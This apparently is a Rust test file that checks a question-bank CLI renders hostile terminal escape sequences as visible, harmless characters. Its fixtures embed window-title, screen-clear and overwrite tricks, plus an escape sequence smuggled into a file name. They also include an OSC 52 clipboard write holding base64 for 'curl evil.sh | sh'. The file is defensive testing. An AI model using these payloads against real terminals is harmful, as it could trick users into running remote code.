//! Bank text is data: a malicious bank folder (window title, OSC 52
//! clipboard write, clear screen, one-byte CSI, carriage-return and
//! backspace overwrites, bidirectional overrides, in titles, answers, code,
//! ids, topics and file names) reaches a real terminal only as visible
//! characters, through every command that prints bank text.

mod support;

use std::path::Path;
use std::process::{Command, Stdio};
use support::binary;

const ESC: char = '\u{1b}';

/// A bank folder whose every field tries to drive the terminal.
fn evil_bank(dir: &Path) {
    let title = format!("{ESC}]0;PWNED-TITLE\u{7}");
    let clipboard = format!("{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}");
    let clear = format!("{ESC}[2J{ESC}[H");
    let question = format!(
        "## Evil{title} question?\n\n\
         - id: evil-q\n- difficulty: easy\n- frameworks: flask\n- topics: evil-topic\n\n\
         **In short:** Short {clipboard} answer {clear} done.\n\n\
         Body {clear} with a one-byte CSI \u{9b}31m, a bell\u{7}, back\u{8}\u{8}space, \
         carriage\rreturn and admin\u{202E}nimda.\n\n\
         | col {title} | b |\n| --- | --- |\n| {clipboard} | x |\n\n\
         ```python\nprint(\"{clipboard}\")\n```\n"
    );
    std::fs::write(dir.join("evil.md"), question).unwrap();
    std::fs::write(
        dir.join("topics.md"),
        format!("# Topics\n\n- `evil-topic` — described {title}{clear}\n"),
    )
    .unwrap();
    // An invalid id in a file whose name holds an escape: `check`, `list`
    // and every command echo the error.
    std::fs::write(
        dir.join(format!("bad{ESC}[2J.md")),
        format!(
            "## Bad?\n\n- id: bad{ESC}]0;IDPWN\u{7}x\n- difficulty: easy\n- frameworks: flask\n\n**In short:** x.\n\ny.\n"
        ),
    )
    .unwrap();
}

/// Runs the binary on a pseudo-terminal (util-linux `script`); returns its
/// exit status and everything the terminal received, stdout and stderr alike.
fn on_terminal(args: &[&str], env: &[(&str, &str)]) -> (i32, String) {
    let quoted: Vec<String> = std::iter::once(binary())
        .chain(args.iter().copied())
        .map(|a| format!("'{}'", a.replace('\'', r"'\''")))
        .collect();
    let script = format!("stty cols 80 rows 50; exec {}", quoted.join(" "));
    let mut command = Command::new("script");
    command
        .args(["-qec", &script, "/dev/null"])
        .env_remove("NO_COLOR")
        .env("TERM", "xterm-256color")
        .env("PAGER", "")
        .stdin(Stdio::null());
    for (key, value) in env {
        command.env(key, value);
    }
    let output = command.output().expect("util-linux `script`");
    let text = String::from_utf8_lossy(&output.stdout).replace("\r\n", "\n");
    (output.status.code().unwrap_or(-1), text)
}

/// The only escape sequences allowed are our own styles (`ESC [ digits ; m`),
/// and no other control character but line feeds and tabs.
fn assert_inert(what: &str, screen: &str) {
    for (at, c) in screen.char_indices() {
        if c == ESC {
            let rest = &screen[at + 1..];
            let sgr = rest.strip_prefix('[').and_then(|r| {
                let end = r.find(|c: char| !c.is_ascii_digit() && c != ';')?;
                (r.as_bytes()[end] == b'm').then_some(())
            });
            assert!(
                sgr.is_some(),
                "{what}: escape sequence other than a style: {:?}",
                &rest[..rest.len().min(20)]
            );
        } else {
            assert!(
                c == '\n' || c == '\t' || !c.is_control(),
                "{what}: control character {c:?} reached the terminal"
            );
        }
        assert!(
            !matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'),
            "{what}: bidirectional control reached the terminal"
        );
    }
}

#[test]
fn no_bank_text_drives_the_terminal_through_any_command() {
    let dir = tempfile::tempdir().unwrap();
    evil_bank(dir.path());
    let folder = dir.path().to_str().unwrap();
    type Run<'a> = (Vec<&'a str>, Vec<(&'a str, &'a str)>);
    let runs: Vec<Run<'_>> = vec![
        (vec!["show", "evil-q", "--no-pager"], vec![]),
        // Through a pager that passes everything through.
        (vec!["show", "evil-q"], vec![("PAGER", "cat -u")]),
        (vec!["random", "--topic", "evil-topic"], vec![]),
        (vec!["random", "--topic", "evil-topic", "--answer"], vec![]),
        (vec!["list"], vec![]),
        (vec!["search", "evil", "question"], vec![]),
        (vec!["topics"], vec![]),
    ];
    for (args, env) in runs {
        let mut full = vec!["--questions", folder];
        full.extend(&args);
        let (code, screen) = on_terminal(&full, &env);
        assert_eq!(code, 0, "{args:?}: {screen}");
        assert_inert(&format!("{args:?}"), &screen);
        // Shown, not hidden: the reader can see something is off.
        assert!(screen.contains("␛]0;"), "{args:?}: {screen}");
        // The invalid id's error, echoed by every command that loads the bank.
        assert!(screen.contains("bad␛]0;IDPWN␇x"), "{args:?}: {screen}");
    }
}

#[test]
fn show_makes_every_trick_visible() {
    let dir = tempfile::tempdir().unwrap();
    evil_bank(dir.path());
    let folder = dir.path().to_str().unwrap();
    let (_, screen) = on_terminal(
        &["--questions", folder, "show", "evil-q", "--no-pager"],
        &[],
    );
    for visible in [
        "Evil␛]0;PWNED-TITLE␇ question?",
        "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇",
        "␛[2J␛[H",
        "<U+009B>31m",
        "bell␇",
        "back␈␈space",
        "carriage␍return",
        "admin<U+202E>nimda",
    ] {
        assert!(screen.contains(visible), "{visible} missing:\n{screen}");
    }
}

#[test]
fn check_vets_an_untrusted_bank_without_obeying_it() {
    let dir = tempfile::tempdir().unwrap();
    evil_bank(dir.path());
    let folder = dir.path().to_str().unwrap();
    let (code, screen) = on_terminal(&["check", folder], &[]);
    assert_eq!(code, 1, "the invalid id is an error: {screen}");
    assert_inert("check", &screen);
    assert!(screen.contains("bad␛[2J.md"), "{screen}");
    assert!(screen.contains("invalid id `bad␛]0;IDPWN␇x`"), "{screen}");
    // Piped, the same report is just as inert.
    let output = Command::new(binary())
        .args(["check", folder])
        .output()
        .unwrap();
    let piped = String::from_utf8_lossy(&output.stdout) + String::from_utf8_lossy(&output.stderr);
    assert_inert("check piped", &piped);
    assert!(!piped.contains(ESC), "{piped}");
}
